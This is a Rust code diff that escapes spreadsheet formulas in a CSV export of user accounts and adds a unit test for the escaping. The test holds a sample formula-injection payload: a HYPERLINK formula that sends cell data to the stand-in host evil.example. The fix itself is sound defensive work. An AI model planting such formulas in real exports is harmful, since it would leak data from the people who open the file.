@@ -5,6 +5,7 @@
 use super::enrolment::UserRequest;
 use super::users::User;
 use super::{Accounts, Principal};
+use crate::csv_text;
 use crate::domain::Refusal;
 
 /// The columns of the user list, in order.
@@ -23,13 +24,14 @@ const LIST_HEADER: [&str; 11] = [
 ];
 
 /// The user list as CSV text: a header line, then one line per user (permissions separated by
-/// spaces).
+/// spaces). Every cell goes through [`csv_text::neutralise`]: a name, mail or id that a
+/// spreadsheet would run as a formula (`=HYPERLINK(…)`) is written as text (`'=HYPERLINK(…)`).
 pub fn users_csv(users: &[User]) -> Result<String, Refusal> {
     let internal = |e: csv::Error| Refusal::Internal(e.into());
     let mut w = csv::Writer::from_writer(Vec::new());
     w.write_record(LIST_HEADER).map_err(internal)?;
     for u in users {
-        w.write_record([
+        let cells = [
             u.user_id.as_str(),
             &u.name,
             &u.mail,
@@ -41,8 +43,9 @@ pub fn users_csv(users: &[User]) -> Result<String, Refusal> {
             &u.created_at.to_rfc3339(),
             &u.last_login_at.map(|t| t.to_rfc3339()).unwrap_or_default(),
             u.contractor.as_deref().unwrap_or_default(),
-        ])
-        .map_err(internal)?;
+        ];
+        w.write_record(cells.iter().map(|c| csv_text::neutralise(c).into_owned()))
+            .map_err(internal)?;
     }
     let bytes = w
         .into_inner()
@@ -173,5 +176,57 @@ impl Accounts {
             });
         }
         Ok(outcomes)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use chrono::Utc;
+
+    fn user(user_id: &str, name: &str, mail: &str) -> User {
+        User {
+            user_id: user_id.into(),
+            name: name.into(),
+            mail: mail.into(),
+            administrator: false,
+            enabled: true,
+            locked: false,
+            failed_logins: 0,
+            must_change_password: false,
+            permissions: vec!["switch-start".into()],
+            permissions_set: false,
+            created_at: Utc::now(),
+            last_login_at: None,
+            contractor: None,
+        }
+    }
+
+    #[test]
+    fn a_user_named_like_a_formula_comes_out_neutralised_in_the_user_list() {
+        let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"詳細")"#;
+        let text = users_csv(&[
+            user("kirikae.taro", evil, "@evil.example"),
+            user("kirikae.hanako", "切替 花子", "hanako@example.jp"),
+        ])
+        .unwrap();
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        assert_eq!(&rows[0][1], format!("'{evil}"));
+        assert_eq!(&rows[0][2], "'@evil.example");
+        // Ordinary cells are as they were.
+        assert_eq!(&rows[1][0], "kirikae.hanako");
+        assert_eq!(&rows[1][1], "切替 花子");
+        assert_eq!(&rows[1][2], "hanako@example.jp");
+        assert_eq!(&rows[1][3], "false");
+        // No cell of the file starts a formula.
+        for row in &rows {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(csv_text::FORMULA_STARTS),
+                    "{cell:?} starts a formula"
+                );
+            }
+        }
     }
 }
